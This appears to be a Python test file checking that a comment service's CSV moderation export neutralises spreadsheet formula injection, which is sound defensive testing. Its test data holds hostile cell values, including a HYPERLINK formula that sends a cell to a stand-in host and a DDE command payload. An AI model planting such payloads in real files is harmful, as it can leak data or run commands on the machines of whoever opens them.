"""The moderators' CSV export opens in a spreadsheet without running commenters' formulas."""

from __future__ import annotations

import csv
import io
import json

import redis
from flask.testing import FlaskClient

from service.core.store import Comment, CommentStatus, CommentStore, Decision
from tests.conftest import auth, new_comment
from tests.workers.conftest import Workers

#: Hostile fields, as a commenter types them into the form.
FORMULAS = {
    "author_name": '=HYPERLINK("http://evil.example/?"&D2,"click")',
    "body": "@SUM(1+1)*cmd|' /C calc'!A0",
    "author_url": "https://blog.example/+1",
}
#: Cells starting with what a commenter cannot put first in a field, stored directly.
CONTROL_STARTS = {"body": "\t=1+1", "author_name": "\r=2+2", "thread": "-3+3", "user_agent": "+4"}


def export(client: FlaskClient, token: str, fmt: str) -> str:
    response = client.get(f"/api/v1/moderation/export?format={fmt}", headers=auth(token))
    assert response.status_code == 200
    return response.get_data(as_text=True)


def test_csv_export_neutralises_formulas(
    client: FlaskClient, workers: Workers, redis_client: redis.Redis, tokens: dict[str, str]
) -> None:
    posted = client.post(
        "/api/v1/comments",
        json=new_comment(client, author_email="-x@mail.example", **FORMULAS),
        headers={"User-Agent": "=cmd"},
    )
    assert posted.status_code == 202
    workers.burst(COMMENTGATE_PUBLISH_BELOW="0", COMMENTGATE_SPAM_ABOVE="1.0")
    stored = Comment(id="raw", created_at=1.0, status=CommentStatus.PENDING, **CONTROL_STARTS)
    store = CommentStore(redis_client)
    store.accept(stored, nonce=None, nonce_ttl=60)
    store.record_decisions([Decision(stored, CommentStatus.HELD, 0.5, "cg-test", ("links",))])

    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(export(client, tokens["admin"], "csv")))}
    hostile = rows[posted.get_json()["id"]]
    for field, value in FORMULAS.items():
        if field == "author_url":
            assert hostile[field] == value  # starts with "h": left as it is
        else:
            assert hostile[field] == "'" + value, field
    assert hostile["author_email"] == "'-x@mail.example"
    assert hostile["user_agent"] == "'=cmd"
    assert float(hostile["score"]) >= 0  # numbers are left as they are
    for field, value in CONTROL_STARTS.items():
        assert rows["raw"][field] == "'" + value, field

    lines = [json.loads(line) for line in export(client, tokens["admin"], "jsonl").splitlines()]
    by_id = {line["id"]: line for line in lines}
    assert by_id[posted.get_json()["id"]]["author_name"] == FORMULAS["author_name"]
    assert by_id["raw"]["body"] == CONTROL_STARTS["body"]
